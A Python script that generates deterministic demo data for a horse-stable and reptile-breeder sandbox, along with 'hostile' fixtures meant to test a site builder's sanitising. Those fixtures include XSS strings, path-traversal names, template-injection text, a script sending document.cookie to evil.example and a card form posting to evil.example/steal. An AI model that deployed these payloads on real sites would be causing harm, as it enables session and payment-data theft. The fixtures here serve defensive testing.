#!/usr/bin/env python3
"""Generate Paddock's bundled demo data (Sources/PaddockSandbox/DemoData) once, deterministically.

Run from the repository root:  python3 scripts/generate-demo-data.py
The output is committed; the sandbox and `DemoData` read it at run time. Same script, same bytes:
a fixed seed drives every choice and no date or time of the run is written.

Files written (the sandbox's own, canonical schema; the sandbox turns it into each API's wire
variants at serve time, see docs/sandbox.md):
  horses.json                  the stable "Stal De Wilgenhoeve": ~30 horses, localised words
  animals.json                 three Husbandry breeders, species, ~44 animals
  horsetelex/<id>.html         HorseTelex pedigree HTML with colour and media placeholders
  hostile/horses.json          horses the site builder must survive (never in the default set)
  hostile/animals.json         animals the site builder must survive
  hostile/horsetelex/<id>.html hostile HorseTelex HTML (script, onclick, iframe, hidden logo)
  media/...                    small PNG photos and SVG pictures the sandbox serves under /media/
"""
import json
import math
import os
import random
import struct
import uuid
import zlib

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "Sources", "PaddockSandbox", "DemoData")
RNG = random.Random(20261201)
LANGS = ["en", "fr", "de", "nl"]


def uid(label):
    """A stable UUID derived from a label."""
    return str(uuid.uuid5(uuid.NAMESPACE_URL, "paddock-demo:" + label))


def write(path, data):
    full = os.path.join(ROOT, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    mode = "wb" if isinstance(data, bytes) else "w"
    with open(full, mode) as f:
        f.write(data)


def write_json(path, value):
    write(path, json.dumps(value, indent=1, ensure_ascii=False, sort_keys=True) + "\n")


# ---------------------------------------------------------------- images (pure Python PNG, SVG)

def png(width, height, pixel):
    rows = bytearray()
    for y in range(height):
        rows.append(0)
        for x in range(width):
            rows.extend(pixel(x, y))
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(rows), 9)) + chunk(b"IEND", b"")


def mix(a, b, t):
    return tuple(int(a[i] + (b[i] - a[i]) * t) for i in range(3))


def in_ellipse(x, y, cx, cy, rx, ry, angle=0.0):
    dx, dy = x - cx, y - cy
    if angle:
        c, s = math.cos(angle), math.sin(angle)
        dx, dy = dx * c + dy * s, -dx * s + dy * c
    return (dx / rx) ** 2 + (dy / ry) ** 2 <= 1.0


def horse_scene(width, height, coat, sky, grass, facing):
    """A pasture with a fence, a sun and a simple horse silhouette in the coat's colour."""
    s = width / 640.0
    mane = mix(coat, (0, 0, 0), 0.55)
    def shape(x, y):
        """0: background, 1: coat, 2: mane, tail and hooves."""
        if in_ellipse(x, y, 320, 250, 110, 52):  # body
            return 1
        if in_ellipse(x, y, 415, 180, 28, 72, 0.55):  # neck
            return 2 if in_ellipse(x, y, 400, 172, 14, 70, 0.55) else 1
        if in_ellipse(x, y, 462, 128, 44, 21, -0.45):  # head
            return 1
        if in_ellipse(x, y, 440, 96, 6, 14, 0.3) or in_ellipse(x, y, 452, 100, 6, 14, 0.5):  # ears
            return 1
        for lx in (245, 275, 370, 400):  # legs and hooves
            if lx - 9 <= x <= lx + 9 and 270 <= y <= 372:
                return 2 if y > 360 else 1
        if in_ellipse(x, y, 207, 265, 12, 55, 0.35):  # tail
            return 2
        return 0
    def pixel(px, py):
        x = (width - px if facing < 0 else px) / s
        y = py / s
        part = shape(x, y)
        if part == 1:
            shade = 0.92 + 0.08 * math.sin((x + y) / 40)
            return mix((0, 0, 0), coat, shade)
        if part == 2:
            return mane
        horizon = 235
        if y < horizon:
            if (px / s - 540) ** 2 + (y - 70) ** 2 < 900:  # sun
                return (255, 236, 170)
            return mix(sky, (255, 255, 255), y / horizon * 0.6)
        if in_ellipse(x, y, 322, 378, 130, 10):  # shadow
            return mix(grass, (0, 0, 0), 0.35)
        fence = (215 <= y <= 221 or 250 <= y <= 256) or (y <= 300 and int(px / s) % 120 < 7)
        if fence and y <= 300:
            return (236, 232, 222)
        return mix(grass, (40, 70, 30), (y - horizon) / (480 - horizon) * 0.7)
    return png(width, height, pixel)


def reptile_scene(width, height, base, band, pattern):
    """A banded or spotted scale pattern in a morph's colours."""
    def pixel(x, y):
        scale = ((x // 6) + (y // 6)) % 2
        if pattern == "bands":
            wave = math.sin(x / 23.0 + math.sin(y / 31.0) * 2.0)
            colour = band if wave > 0.35 else base
        else:
            cx, cy = (x // 40) * 40 + 20, (y // 40) * 40 + 20
            colour = band if (x - cx) ** 2 + (y - cy) ** 2 < 110 else base
        return mix(colour, (0, 0, 0), 0.08 * scale)
    return png(width, height, pixel)


def logo_svg(text, fill):
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="160" height="40" viewBox="0 0 160 40">'
        f'<rect width="160" height="40" rx="6" fill="{fill}"/>'
        '<text x="80" y="26" font-family="Helvetica, Arial, sans-serif" font-size="17" font-weight="bold" '
        f'fill="#ffffff" text-anchor="middle">{text}</text></svg>\n'
    )


def species_svg(name, body, accent, kind):
    if kind == "snake":
        path = '<path d="M20 90 C60 20 100 160 140 90 S220 20 250 80" stroke="%s" stroke-width="22" fill="none" stroke-linecap="round"/>' % body
        eye = '<circle cx="252" cy="76" r="4" fill="#111"/>'
    else:
        path = ('<ellipse cx="140" cy="90" rx="70" ry="28" fill="%s"/><ellipse cx="225" cy="80" rx="30" ry="20" fill="%s"/>'
                '<path d="M72 95 Q30 110 12 80" stroke="%s" stroke-width="16" fill="none" stroke-linecap="round"/>'
                '<rect x="95" y="105" width="10" height="30" fill="%s"/><rect x="175" y="105" width="10" height="30" fill="%s"/>') % (body, body, body, body, body)
        eye = '<circle cx="238" cy="74" r="4" fill="#111"/>'
    spots = "".join('<circle cx="%d" cy="%d" r="5" fill="%s"/>' % (60 + i * 34, 86 + (i % 2) * 8, accent) for i in range(6))
    return ('<svg xmlns="http://www.w3.org/2000/svg" width="280" height="180" viewBox="0 0 280 180">'
            f'<title>{name}</title><rect width="280" height="180" fill="#f3efe4"/>{path}{spots}{eye}</svg>\n')


# ---------------------------------------------------------------- words

SEXES = {
    "STALLION": {"en": "Stallion", "fr": "Étalon", "de": "Hengst", "nl": "Hengst"},
    "MARE": {"en": "Mare", "fr": "Jument", "de": "Stute", "nl": "Merrie"},
    "GELDING": {"en": "Gelding", "fr": "Hongre", "de": "Wallach", "nl": "Ruin"},
    "FILLY": {"en": "Filly", "fr": "Pouliche", "de": "Stutfohlen", "nl": "Merrieveulen"},
    "COLT": {"en": "Colt", "fr": "Poulain", "de": "Hengstfohlen", "nl": "Hengstveulen"},
    "UNKNOWN": {"en": "Unknown", "fr": "Inconnu", "de": "Unbekannt", "nl": "Onbekend"},
}
COLOURS = {
    "bay": {"en": "Bay", "fr": "Bai", "de": "Braun", "nl": "Bruin", "rgb": (122, 62, 28)},
    "dark_bay": {"en": "Dark bay", "fr": "Bai brun", "de": "Dunkelbraun", "nl": "Donkerbruin", "rgb": (70, 36, 18)},
    "chestnut": {"en": "Chestnut", "fr": "Alezan", "de": "Fuchs", "nl": "Vos", "rgb": (170, 84, 30)},
    "grey": {"en": "Grey", "fr": "Gris", "de": "Schimmel", "nl": "Schimmel", "rgb": (196, 196, 190)},
    "black": {"en": "Black", "fr": "Noir", "de": "Rappe", "nl": "Zwart", "rgb": (28, 26, 26)},
    "paint": {"en": "Paint", "fr": "Pie", "de": "Schecke", "nl": "Bont", "rgb": (150, 110, 80)},
}
STUDBOOKS = ["KWPN", "Holsteiner", "Hanoverian", "BWP", "Oldenburg", "Westfalen", "Zangersheide", "SF", "Trakehner"]
SIRES = ["Cornet Obolensky", "Chacco-Blue", "Diamant de Semilly", "Casall", "Cassini I", "Quidam de Revel",
         "Contender", "Heartbreaker", "Jazz", "Sandro Hit", "Donnerhall", "For Pleasure", "Baloubet du Rouet",
         "Kannan", "Nabab de Rêve", "Carthago", "Capitol I", "Clinton", "Ramiro", "Voltaire", "Darco",
         "Emerald", "Mylord Carthago", "Zirocco Blue", "Indoctro", "Corland", "Lord Z", "Numero Uno",
         "Chin Chin", "Acord II", "Landgraf I", "Calido I", "Cor de la Bryère", "Lordanos", "Ukato",
         "Ferro", "Florestan I", "Weltmeyer", "Rubinstein I", "De Niro", "Sir Donnerhall I", "Fürst Heinrich",
         "Vivaldi", "Negro", "United", "Zack", "Bordeaux", "Totilas", "Cardento", "Con Air", "Plot Blue",
         "Kashmir van Schuttershof", "Nabab de Reve", "Vigo d'Arsouilles", "Toulon", "Thunder van de Zuuthoeve"]
MARE_NAMES = ["Ulinda", "Wendelien", "Gracia", "Pia", "Ramona", "Hilde", "Bonita", "Quintana", "Feodora",
              "Larissa", "Odessa", "Nicolette", "Tiara", "Zaza", "Amalia", "Belinda", "Corinna", "Donna Bella",
              "Elfi", "Fleur", "Gwendolyn", "Heidi", "Ilse", "Jolanda", "Kira", "Liane", "Marlies", "Nora"]
HORSE_NAMES = [
    ("Wilgenhoeve's Cassandra", "MARE"), ("Quintero W", "STALLION"), ("Dorian van de Wilgen", "GELDING"),
    ("Bellatrix WH", "MARE"), ("Cornado Blue", "STALLION"), ("Fidelio", "GELDING"), ("Hermione Z", "MARE"),
    ("Jupiter van 't Hof", "STALLION"), ("Kalinka", "MARE"), ("Lord Wilgenhoeve", "STALLION"),
    ("Mistral de la Roque", "GELDING"), ("Nougatine", "MARE"), ("Orlando", "GELDING"), ("Paloma", "MARE"),
    ("Quebec", "GELDING"), ("Rosalie WH", "MARE"), ("Sherlock", "GELDING"), ("Tamara", "MARE"),
    ("Urbanus", "STALLION"), ("Valentino", "GELDING"), ("Wiesje", "FILLY"), ("Xanthos", "COLT"),
    ("Ymke", "FILLY"), ("Zorro van de Wilgen", "COLT"), ("Amadeus WH", "STALLION"), ("Bijou", "MARE"),
    ("Chaccolino", "GELDING"), ("Dancing Queen", "MARE"), ("Elysée", "MARE"), ("Faberge", "UNKNOWN"),
]
LEVELS = ["1.10m", "1.20m", "1.30m", "1.40m", "1.50m", "Z2 dressage", "Grand Prix", "Young horse", "Foal", "Broodmare"]
YOUTUBE = ["b8-KqYAWJ4M", "dQ7h3sZ2kLw", "Xk2pL9mNq4c", "Rt5vB8nWj1E", "Gh3kT7yUo2A", "Lm9Qw2Er5Ty", "Pz4Xc8Vb1Nm", "Jk6Hg3Fd9Sa"]
SALES = {
    "en": "{name} is a {adj} {sex} with a lot of scope and a great attitude, ready for the next step.",
    "fr": "{name} est {article} {sex} {adj_fr} avec beaucoup de moyens et un excellent mental, prêt{e} pour la suite.",
    "de": "{name} ist ein {adj_de} Pferd mit viel Vermögen und bester Einstellung, bereit für den nächsten Schritt.",
    "nl": "{name} is een {adj_nl} paard met veel vermogen en een geweldig karakter, klaar voor de volgende stap.",
}
ADJ = [("talented", ("talentueux", "talentueuse"), "talentiertes", "talentvol"),
       ("elegant", ("élégant", "élégante"), "elegantes", "elegant"),
       ("careful", ("soigneux", "soigneuse"), "vorsichtiges", "voorzichtig"),
       ("powerful", ("puissant", "puissante"), "kraftvolles", "krachtig")]


def pedigree(index):
    """A 14-key pedigree; a few horses miss the third generation on one side."""
    pick = lambda: RNG.choice(SIRES)
    mare = lambda: RNG.choice(MARE_NAMES)
    p = {"v": pick(), "vv": pick(), "vvv": pick(), "vvm": mare(), "vm": mare(), "vmv": pick(), "vmm": mare(),
         "m": mare(), "mv": pick(), "mvv": pick(), "mvm": mare(), "mm": mare(), "mmv": pick(), "mmm": mare()}
    if index % 7 == 3:
        p["mmv"] = ""
        p["mmm"] = ""
    if index % 11 == 5:
        p["vmm"] = ""
    return p


def horses():
    out = []
    colour_keys = list(COLOURS)
    for i, (name, gender) in enumerate(HORSE_NAMES):
        hid = 1201 + i * 7
        young = gender in ("FILLY", "COLT")
        year = 2025 if young else RNG.randint(2009, 2021)
        birth = "%04d-%02d-%02d" % (year, RNG.randint(1, 12), RNG.randint(1, 28))
        colour = colour_keys[i % len(colour_keys)]
        pics = []
        for n in range(1 + i % 3):
            pics.append({"name": ["Portrait", "Jumping", "Free movement"][n], "module": "Horse",
                         "file": "horses/h%02d-%d.png" % (i % 8, n),
                         "miniature": "horses/h%02d-%d-mini.png" % (i % 8, n)})
        vids = []
        if i % 3 != 2:
            yt = YOUTUBE[i % len(YOUTUBE)]
            vids.append({"name": "%s under saddle" % name if not young else "%s at liberty" % name,
                         "module": "Horse", "youtube": yt})
        adj = ADJ[i % len(ADJ)]
        sex_words = SEXES[gender]
        female = gender in ("MARE", "FILLY")
        sales = {
            "en": SALES["en"].format(name=name, adj=adj[0], sex=sex_words["en"].lower()),
            "fr": SALES["fr"].format(name=name, article="une" if female else "un", sex=sex_words["fr"].lower(),
                                     adj_fr=adj[1][1 if female else 0],
                                     e="e" if female else ""),
            "de": SALES["de"].format(name=name, adj_de=adj[2]),
            "nl": SALES["nl"].format(name=name, adj_nl=adj[3]),
        }
        additional = {
            "sku": "WH-%04d" % hid,
            "breeding_associations": [RNG.choice(STUDBOOKS)] + ([RNG.choice(["BWP", "SBS", "AES"])] if i % 4 == 0 else []),
            "semen_availability": (["Fresh", "Frozen"] if i % 2 == 0 else ["Frozen"]) if gender == "STALLION" else [],
            "semen_price": ("€ %d" % RNG.choice([650, 850, 1250, 1500])) if gender == "STALLION" else "",
            "wffs_test_result": RNG.choice(["WFFS negative (N/N)", "WFFS negative (N/N)", "WFFS carrier (N/WFFS)", "Not tested"]),
            "sales_content": sales if i % 5 != 4 else {lang: "" for lang in LANGS},
        }
        out.append({
            "id": hid, "name": name,
            "official_name": name.upper() if i % 4 == 0 else "",
            "nick_name": name.split()[0] if i % 6 == 0 else "",
            "birth_date": birth, "gender": gender, "color": colour,
            "studbook": STUDBOOKS[i % len(STUDBOOKS)], "height": 0 if young else RNG.randint(158, 178),
            "heightunit": "cm", "breeder": RNG.choice(["Stal De Wilgenhoeve", "H. van Dijk", "Gestüt Lindenhof", "Élevage du Marais"]),
            "horsetelex": i in (1, 4, 9, 18, 24),
            "pedigree": pedigree(i),
            "profile": pics[0]["file"], "miniature": pics[0]["miniature"],
            "pictures": pics, "videos": vids,
            "level": "Foal" if young else LEVELS[i % len(LEVELS)],
            "info": {"en": "Stabled at Stal De Wilgenhoeve.", "fr": "En pension au Stal De Wilgenhoeve.",
                     "de": "Steht im Stal De Wilgenhoeve.", "nl": "Gestald bij Stal De Wilgenhoeve."},
            "additional": additional,
        })
    return out


def horsetelex_html(horse, logo_style="", extra=""):
    """HorseTelex-style table pedigree with placeholders the sandbox fills in at serve time
    (colours, media base, horse id, and the words in the request's language)."""
    p = horse["pedigree"]
    def cell(key, rowspan, mare):
        name = p.get(key, "") or "&nbsp;"
        cls = "ht-mare" if mare else "ht-horse"
        style = ('background-color:#__MARE_BGCOLOR__;color:#__MARE_TEXTCOLOR__' if mare else 'color:#__HORSE_TEXTCOLOR__')
        return f'<td rowspan="{rowspan}" class="{cls}" style="{style}">{name}</td>'
    rows = [
        [cell("v", 4, False), cell("vv", 2, False), cell("vvv", 1, False)],
        [cell("vvm", 1, True)],
        [cell("vm", 2, True), cell("vmv", 1, False)],
        [cell("vmm", 1, True)],
        [cell("m", 4, True), cell("mv", 2, False), cell("mvv", 1, False)],
        [cell("mvm", 1, True)],
        [cell("mm", 2, True), cell("mmv", 1, False)],
        [cell("mmm", 1, True)],
    ]
    body = "\n".join("  <tr>" + "".join(r) + "</tr>" for r in rows)
    logo_attr = f' style="{logo_style}"' if logo_style else ""
    return (
        '<div class="horsetelex-pedigree">\n'
        f'<table class="ht-pedigree" cellspacing="0" cellpadding="4" border="1" summary="__PEDIGREE_OF__ {horse["name"]}">\n'
        f'  <caption style="color:#__HORSE_TEXTCOLOR__">{horse["name"]}</caption>\n'
        f'{body}\n</table>\n'
        f'{extra}'
        f'<div class="ht-attribution"{logo_attr}>'
        '<a href="https://www.horsetelex.com/horses/pedigree/__HORSE_ID__" target="_blank" rel="noopener">'
        '<img src="__MEDIA_BASE__/logos/horsetelex.svg" alt="HorseTelex" width="160" height="40"></a> '
        '<a href="https://www.equicty.com" target="_blank" rel="noopener">'
        '<img src="__MEDIA_BASE__/logos/equicty.svg" alt="Equicty" width="160" height="40"></a>'
        '<p>__PEDIGREE_DATA__ &copy; <a href="https://www.horsetelex.com">HorseTelex</a>, __PROVIDED_BY__ '
        '<a href="https://www.equicty.com">Equicty</a></p></div>\n</div>\n'
    )


# ---------------------------------------------------------------- Husbandry

BREEDERS = [
    {"key": "3f7a9c2e5b8d41f6a0c3e7b9d2f4a6c8", "first_name": "Lotte", "last_name": "Janssens",
     "email": "lotte@scales-and-tails.example", "business_name": "Scales & Tails Reptiles"},
    {"key": "8b1d4f7a2c5e9b3d6f0a4c8e1b5d9f2a", "first_name": "Marc", "last_name": "Dubois",
     "email": "marc@gecko-atelier.example", "business_name": "Gecko Atelier"},
    {"key": "c6e2a8f4b0d7c3e9a5f1b7d3c9e5a1f7", "first_name": "Anke", "last_name": "Vogel",
     "email": "anke@nordic-morphs.example", "business_name": "Nordic Morphs"},
]
SPECIES = [
    ("ball-python", "Ball Python", "Python regius", "snake", "#8a5a2b", "#e8c170"),
    ("leopard-gecko", "Leopard Gecko", "Eublepharis macularius", "lizard", "#e0b23a", "#3b2a1a"),
    ("corn-snake", "Corn Snake", "Pantherophis guttatus", "snake", "#d2552c", "#f0c58a"),
    ("crested-gecko", "Crested Gecko", "Correlophus ciliatus", "lizard", "#b7722f", "#f1d9a0"),
    ("bearded-dragon", "Bearded Dragon", "Pogona vitticeps", "lizard", "#c9a46a", "#7a5a2e"),
    ("hognose", "Western Hognose", "Heterodon nasicus", "snake", "#a68a5b", "#4b3a25"),
    ("tortoise", "Hermann's Tortoise", "Testudo hermanni", "lizard", "#7d7a3a", "#d8c27a"),
]
MORPHS = {
    "ball-python": [("Pastel", "Co-dominant"), ("Clown", "Recessive"), ("Pied", "Recessive"), ("Spider", "Dominant"),
                    ("Enchi", "Co-dominant"), ("Fire", "Inc/Dominant"), ("Pinstripe", "Dominant"),
                    ("Desert Ghost", "Recessive"), ("Lemonblast", "Co-dominant"), ("Mojave", "Co-dominant")],
    "leopard-gecko": [("Tremper Albino", "Recessive"), ("Mack Snow", "Co-dominant"), ("Eclipse", "Recessive"),
                      ("Tangerine", "Polygenic"), ("Enigma", "Dominant"), ("Bold Stripe", "Polygenic")],
    "corn-snake": [("Amelanistic", "Recessive"), ("Anerythristic", "Recessive"), ("Tessera", "Dominant"),
                   ("Palmetto", "Recessive"), ("Hypo", "Recessive")],
    "crested-gecko": [("Lilly White", "Co-dominant"), ("Harlequin", "Polygenic"), ("Dalmatian", "Polygenic"),
                      ("Pinstripe", "Polygenic")],
    "bearded-dragon": [("Hypo", "Recessive"), ("Translucent", "Recessive"), ("Leatherback", "Co-dominant"),
                       ("Red", "Polygenic")],
    "hognose": [("Albino", "Recessive"), ("Anaconda", "Co-dominant"), ("Arctic", "Co-dominant"), ("Toffee Belly", "Recessive")],
    "tortoise": [],
}
SPECIES_COUNTS = [("ball-python", 14), ("leopard-gecko", 9), ("corn-snake", 7), ("crested-gecko", 6),
                  ("bearded-dragon", 3), ("hognose", 3), ("tortoise", 2)]
PREFIX = {"ball-python": "BP", "leopard-gecko": "LG", "corn-snake": "CS", "crested-gecko": "CG",
          "bearded-dragon": "BD", "hognose": "HN", "tortoise": "TT"}
PET_NAMES = ["Nova", "Mango", "Pixel", "Saffron", "Biscuit", "Juniper", "Olive", "Ziggy", "Clementine", "Basil",
             "Pumpkin", "Luna", "Rusty", "Kiwi", "Maple", "Pepper"]
STATUSES = ["active"] * 8 + ["hold", "On Loan", "inactive", "sold"]


def animals():
    out = []
    n = 0
    for sp, count in SPECIES_COUNTS:
        for k in range(count):
            breeder = 0 if n % 10 < 7 else (1 if n % 10 < 9 else 2)
            genes = MORPHS[sp]
            sire = RNG.sample(genes, min(len(genes), RNG.randint(0, 3))) if genes else []
            dam = RNG.sample(genes, min(len(genes), RNG.randint(0, 2))) if genes else []
            visual = [g[0] for g in sire if g[1] != "Recessive"] or ["Normal"]
            descriptor = " ".join(visual) + (" het " + sire[0][0] if sire and sire[0][1] == "Recessive" else "")
            for_sale = n % 2 == 0
            status = "active" if for_sale else STATUSES[n % len(STATUSES)]
            year = RNG.randint(2019, 2025)
            dob = "%04d-%02d-%02d" % (year, RNG.randint(1, 12), RNG.randint(1, 28)) if n % 6 != 5 else ""
            sale_info = None
            if for_sale:
                price = None if n % 8 == 6 else float(RNG.choice([45, 60, 75, 120, 150, 180, 250, 350, 450, 650, 900, 1250]))
                sale_info = {"sale_price": price,
                             "pricing_notes": "Price includes a starter guide." if n % 4 == 0 else "",
                             "buyer_notes": "Feeding well on frozen/thawed." if sp in ("ball-python", "corn-snake", "hognose") else "Eating insects and fruit mix."}
            photos = ["animals/%s-%d.png" % (sp, (k % 2))] + (["animals/%s-%d.png" % (sp, ((k + 1) % 2))] if n % 3 == 0 else [])
            if n % 9 == 4:
                photos = []
            aid = uid("animal-%d" % n)
            out.append({
                "ids": aid, "breeder": breeder, "species": uid("species-" + sp),
                "my_id": "%s-%04d" % (PREFIX[sp], 1 + k), "name": PET_NAMES[n % len(PET_NAMES)] if n % 3 != 1 else "",
                "descriptor": descriptor, "sex": ["M", "F", "U"][n % 3 if sp != "tortoise" else 2],
                "full_dob": dob, "date_acquired": "%04d-%02d-%02d" % (year, RNG.randint(1, 12), RNG.randint(1, 28)),
                "maturity": RNG.choice(["Hatchling", "Juvenile", "Sub-adult", "Adult Beast"]),
                "status": status, "is_for_sale": for_sale, "is_proven_breeder": n % 5 == 0,
                "sire_genetics": [{"name": g, "trait": t} for g, t in sire],
                "dam_genetics": [{"name": (g + " [het]") if t == "Recessive" else g, "trait": t} for g, t in dam],
                "sire_id": "%s-%04d" % (PREFIX[sp], 90 + k) if n % 4 == 1 else "",
                "dam_id": "%s-%04d" % (PREFIX[sp], 70 + k) if n % 4 == 2 else "",
                "source": "Produced" if n % 3 else "Acquired", "photos": photos,
                "tags": (["captive bred"] if n % 3 else []) + (["proven"] if n % 5 == 0 else []),
                "notes": "Calm and easy to handle." if n % 4 == 3 else "",
                "sale_info": sale_info,
                "hold_info": {"hold_notes": "Deposit received", "hold_customer": "R. Peeters"} if status == "hold" else None,
                "sold_info": {"sold_date": "2025-09-14", "sold_amount": 300.0, "sold_customer": "J. Smit", "sold_notes": ""} if status == "sold" else None,
                "feeder": {"ids": uid("feeder-" + sp), "name": "FT Feeder Rat" if "snake" in sp or sp in ("ball-python", "hognose") else "Dubia roach",
                           "size": "Weaned", "weight": 70.0, "cost": 2.2},
                "feeding": {"intervals": 7, "notify": n % 2, "qty": 1, "notification_type": "Week Days" if n % 4 == 0 else "Interval Days",
                            "week_days": ["Sunday", "Wednesday"] if n % 4 == 0 else []},
                "rack": {"name": "ARS", "row": 1 + n % 6, "column": 1 + n % 3},
                "display_currency": "1",
            })
            n += 1
    return out


# ---------------------------------------------------------------- hostile

def hostile_horses(base):
    template = base[0]
    def clone(hid, **changes):
        h = json.loads(json.dumps(template))
        h["id"] = hid
        h["horsetelex"] = False
        h.update(changes)
        return h
    long_name = ("Very Long Name " * 20)[:300]
    return [
        clone(9001, name="<script>alert(1)</script>"),
        clone(9002, name="{{name}} and {{{raw}}} {{#x}}", info={l: "Text with {{mustache}} and {{> partial}}" for l in LANGS}),
        clone(9003, name="Quote \"Q\" O'Neil 🐴🏆", nick_name="L'Étoile \"Star\""),
        clone(9004, name="حصان عربي أصيل", info={l: "نص من اليمين إلى اليسار \u202e reversed" for l in LANGS}),
        clone(9005, name=long_name),
        clone(9006, name="Cœur de Lion"),
        clone(9007, name="Coeur de Lion"),
        clone(9008, name="../../etc/passwd", profile="javascript:alert(1)", miniature="javascript:alert(2)",
              pictures=[{"name": "bad", "module": "Horse", "file": "javascript:alert(3)", "miniature": "data:text/html,<b>x</b>"}],
              videos=[{"name": "bad video", "module": "Horse", "youtube": "\"><script>alert(4)</script>"}]),
        clone(9009, name="CON", horsetelex=True),
        clone(9010, name="NUL.txt", horsetelex=True),
        clone(9011, name="Hidden Logo", horsetelex=True),
        clone(9012, name="Script in Sales", additional=dict(template["additional"],
              sales_content={l: "<img src=x onerror=alert(5)><b>bold</b> <a href=\"javascript:alert(6)\">link</a>" for l in LANGS})),
    ]


def hostile_html(horse, kind):
    if kind == "script":
        extra = '<script>document.location="https://evil.example/?c="+document.cookie</script>\n'
        extra += '<p onclick="alert(7)" onmouseover="alert(8)">Click me</p>\n'
        extra += '<iframe src="https://evil.example/frame" width="1" height="1"></iframe>\n'
        extra += '<a href="javascript:alert(9)">javascript link</a>\n'
        extra += '<form action="https://evil.example/steal"><input name="card"></form>\n'
        return horsetelex_html(horse, extra=extra)
    if kind == "iframe":
        return horsetelex_html(horse, extra='<iframe srcdoc="&lt;script&gt;alert(10)&lt;/script&gt;"></iframe>\n<style>.ht-attribution{visibility:hidden}</style>\n')
    return horsetelex_html(horse, logo_style="display:none")


def main():
    hs = horses()
    write_json("horses.json", {"stable": "Stal De Wilgenhoeve", "sexes": SEXES,
                               "colors": {k: {l: v[l] for l in LANGS} for k, v in COLOURS.items()}, "horses": hs})
    for h in hs:
        if h["horsetelex"]:
            write("horsetelex/%d.html" % h["id"], horsetelex_html(h))
    species = [{"ids": uid("species-" + sp), "common_name": cn, "scientific_name": sn,
                "picture": "species/%s.svg" % sp} for sp, cn, sn, _, _, _ in SPECIES]
    write_json("animals.json", {"breeders": BREEDERS, "species": species, "animals": animals()})
    hh = hostile_horses(hs)
    write_json("hostile/horses.json", {"horses": hh})
    for h, kind in ((hh[8], "script"), (hh[9], "iframe"), (hh[10], "hidden")):
        write("hostile/horsetelex/%d.html" % h["id"], hostile_html(h, kind))
    bad_animals = [
        {"ids": uid("hostile-%d" % i), "breeder": 0, "species": uid("species-ball-python"), "my_id": my_id, "name": name,
         "descriptor": desc, "sex": "M", "full_dob": "2024-02-30" if i == 2 else "2024-03-01", "date_acquired": "not a date",
         "maturity": "Adult", "status": "active", "is_for_sale": True, "is_proven_breeder": False,
         "sire_genetics": [{"name": "<b>Pastel</b>", "trait": "Co-dominant\"><script>alert(1)</script>"}],
         "dam_genetics": [], "sire_id": "", "dam_id": "", "source": "Produced", "photos": photos, "tags": ["<i>tag</i>"],
         "notes": "", "sale_info": {"sale_price": price, "pricing_notes": "{{price}}", "buyer_notes": ""},
         "hold_info": None, "sold_info": None,
         "feeder": {"ids": uid("feeder-x"), "name": "x", "size": "x", "weight": 1.0, "cost": 1.0},
         "feeding": {"intervals": 7, "notify": 0, "qty": 1, "notification_type": "Interval Days", "week_days": []},
         "rack": {"name": "R", "row": 1, "column": 1}, "display_currency": "1"}
        for i, (my_id, name, desc, photos, price) in enumerate([
            ("../../../evil", "<script>alert('snake')</script>", "{{descriptor}}", ["javascript:alert(1)"], 100.0),
            ("CON", "\u202eelbuod", "Emoji 🐍🦎 and \"quotes\"", ["http://127.0.0.1:1/none.png"], -5.0),
            ("BP-0001", "Same Id As Another", "x" * 300, [], None),
        ])
    ]
    write_json("hostile/animals.json", {"animals": bad_animals})
    # media
    for i in range(8):
        colour = list(COLOURS.values())[i % len(COLOURS)]["rgb"]
        sky = mix((120, 170, 230), (250, 200, 150), (i % 4) / 4.0)
        grass = mix((90, 150, 60), (150, 160, 70), (i % 3) / 3.0)
        for n in range(3):
            facing = 1 if (i + n) % 2 == 0 else -1
            write("media/horses/h%02d-%d.png" % (i, n), horse_scene(480, 320, colour, sky, grass, facing))
            write("media/horses/h%02d-%d-mini.png" % (i, n), horse_scene(160, 107, colour, sky, grass, facing))
    for sp, cn, _, kind, body, accent in SPECIES:
        write("media/species/%s.svg" % sp, species_svg(cn, body, accent, kind))
        base = tuple(int(body[j:j + 2], 16) for j in (1, 3, 5))
        band = tuple(int(accent[j:j + 2], 16) for j in (1, 3, 5))
        for k in range(2):
            write("media/animals/%s-%d.png" % (sp, k),
                  reptile_scene(320, 240, base if k == 0 else band, band if k == 0 else base, "bands" if kind == "snake" else "spots"))
    write("media/logos/horsetelex.svg", logo_svg("HorseTelex", "#00afa8"))
    write("media/logos/equicty.svg", logo_svg("Equicty", "#1d3557"))


if __name__ == "__main__":
    main()
